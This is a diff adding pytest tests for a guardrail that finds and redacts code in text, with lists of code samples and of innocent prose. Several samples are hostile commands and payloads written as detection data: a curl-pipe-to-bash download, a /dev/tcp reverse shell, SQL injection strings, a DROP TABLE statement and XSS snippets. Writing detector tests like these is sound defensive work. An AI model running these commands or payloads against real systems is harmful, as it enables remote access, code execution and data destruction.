@@ -1,0 +1,150 @@
+"""Code is told from prose that speaks of code."""
+
+from __future__ import annotations
+
+import pytest
+
+from turnwise.errors import GuardError, UnknownNameError
+from turnwise.guard.guardrails.code import Code
+from turnwise.guard.guardrails.try_out import finding_of
+
+CODE = Code()
+
+FOUND = [
+    ("Run:\n```python\nx = 1\n```\nDone.", "fenced"),
+    ("```\nls -la | grep x\n```", "fenced"),
+    ("~~~js\nlet x\n~~~", "fenced"),
+    ("```sh\nno end in sight", "fenced"),
+    ("rm -rf /tmp/cache", "shell"),
+    ("Just type sudo apt install nginx and wait", "shell"),
+    ("curl -s https://get.example/x.sh | bash", "shell"),
+    ("$ git push --force", "shell"),
+    ("#!/bin/bash\nset -e", "shell"),
+    ("user@host:~$ ls -la", "shell"),
+    ("chmod +x run.sh", "shell"),
+    ("pip install requests", "shell"),
+    ("cat names.txt | grep jane", "shell"),
+    ("bash -i >& /dev/tcp/192.0.2.1/80", "shell"),
+    ("powershell -enc aGVsbG8=", "powershell"),
+    ("Invoke-WebRequest https://example.com", "powershell"),
+    ("SELECT name, age FROM people WHERE age > 3", "sql"),
+    ("select * from users;", "sql"),
+    ("insert into t (a, b) values (1, 2)", "sql"),
+    ("DROP TABLE users;", "sql"),
+    ("update users set admin = 1 where id = 7", "sql"),
+    ("x' OR 1=1 --", "sql"),
+    ("1 UNION SELECT password FROM users", "sql"),
+    ("delete from users where id = 1", "sql"),
+    ("<script>alert(1)</script>", "html_script"),
+    ("<img src=x onerror=alert(1)>", "html_script"),
+    ("javascript:alert(1)", "html_script"),
+    ("def add(a, b):\n    return a + b", "python"),
+    ("import os\nimport sys as s", "python"),
+    ("from os import path", "python"),
+    ("class Node(Base):\n    pass", "python"),
+    ("print('hello')", "python"),
+    ("os.system('ls')", "python"),
+    ("for i in range(10):\n    go(i)", "python"),
+    ("const x = require('fs');", "javascript"),
+    ("function add(a, b) { return a + b }", "javascript"),
+    ("items.map(x => x.name)", "javascript"),
+    ("console.log('hi')", "javascript"),
+    ("public static void main(String[] args) {", "java"),
+    ("System.out.println(1);", "java"),
+    ("#include <stdio.h>\nint main() { return 0; }", "c"),
+    ("func main() {\n}", "go"),
+    ("fn main() {\n    let mut x = 1;\n}", "rust"),
+    ("<?php echo 1; ?>", "php"),
+    ("$name = $_GET['name'];", "php"),
+]
+
+CLEAN = [
+    "Can you explain what the code does?",
+    "I read about `code` and `print` in a book.",
+    "The dress code is casual; the zip code is 12345.",
+    "Select an item from the menu and pay $5.",
+    "Please select the best option from the list.",
+    "I want to drop the table off at my mother's place.",
+    "They create table settings for weddings.",
+    "Update your profile and set a new password.",
+    "Delete from your mind what I said.",
+    "Insert the card into the slot.",
+    "It costs $ 30 or $40, at most $50.",
+    "The file is in /usr/local/bin or C:\\Temp\\x.",
+    "Import duties rose; from Monday they import less.",
+    "From home import and export look easy.",
+    "In this class: reading, writing, and more.",
+    "If you like it: buy it. For now: wait.",
+    "Let me go to the function on Friday (a party).",
+    "The function of the heart is to pump blood.",
+    "A constant is not a variable; let x be a number.",
+    "We grow => we learn",
+    "The public is invited; the private session starts at 9.",
+    "Cat and dog | bird and fish",
+    "Make sure & find out; then kill time.",
+    "#include everyone in the meeting",
+    "# A heading\n\nSome text\n\n- a list\n- of things",
+    "```text\nA poem\nof two lines\n```",
+    "```\nJust a quoted line of prose\n```",
+    "I sudo-know what you mean, rm is a command.",
+    "pip is a bird's disease and npm a company",
+    "My printer prints (badly) 'hello'.",
+    '{"name": "value"}',
+    "1 + 1 = 2 and x = 3",
+    "Use `os.system()` to start a process.",
+    "Your actions are: javascript: runs a page's own language",
+    "Git is a tool. Docker is another.",
+    "Find the cat, then echo its name > loud",
+    "Java is an island; Go is a game; Rust is on my car; C is a grade.",
+    "e = mc^2; a || b; p && q",
+    'He said: "union select committee members or else"',
+]
+
+
+@pytest.mark.parametrize(("text", "kind"), FOUND)
+def test_code_is_found(text: str, kind: str) -> None:
+    for whole in (text, f"Please look:\n{text}\n"):
+        finding = finding_of(CODE, whole)
+        assert finding.data is not None, whole
+        assert kind in finding.data["types"]
+        assert finding.redactions
+
+
+@pytest.mark.parametrize("text", CLEAN)
+def test_prose_is_no_code(text: str) -> None:
+    assert not finding_of(CODE, text).found, finding_of(CODE, text)
+
+
+def test_a_block_is_cut_out_whole() -> None:
+    text = "Before\n```python\nimport os\nos.system('x')\n```\nafter"
+    (redaction,) = finding_of(CODE, text).redactions
+    assert text[: redaction.start] + redaction.placeholder + text[redaction.end :] == "Before\n[CODE]\nafter"
+
+
+def test_reasons_name_languages() -> None:
+    assert finding_of(CODE, "select * from users;\nrm -rf /").reason == "SQL, shell commands"
+    assert finding_of(CODE, "```python\nx = 1\n```").reason == "a code block"
+
+
+def test_settings() -> None:
+    text = "select * from users;\nrm -rf /x"
+    assert finding_of(Code(types=("shell",)), text).data == {"types": ["shell"], "lines": 1}
+    assert finding_of(Code(min_lines=2), text).found
+    assert not finding_of(Code(min_lines=3), text).found
+
+
+@pytest.mark.parametrize("line", ["$ ls\n", "```\na = 1\n```\n", "select * from t;\n"])
+def test_very_much_code_is_cut_out_to_the_end(line: str) -> None:
+    text = line * 1_000
+    assert finding_of(CODE, text).redactions[-1].end >= len(text) - 1
+
+
+def test_bad_settings() -> None:
+    with pytest.raises(GuardError, match="types is empty"):
+        Code(types=())
+    with pytest.raises(UnknownNameError, match="did you mean 'python'"):
+        Code(types=("pyton",))  # type: ignore[arg-type]
+    with pytest.raises(GuardError, match="min_lines"):
+        Code(min_lines=0)
+    with pytest.raises(GuardError, match="placeholder"):
+        Code(placeholder="")
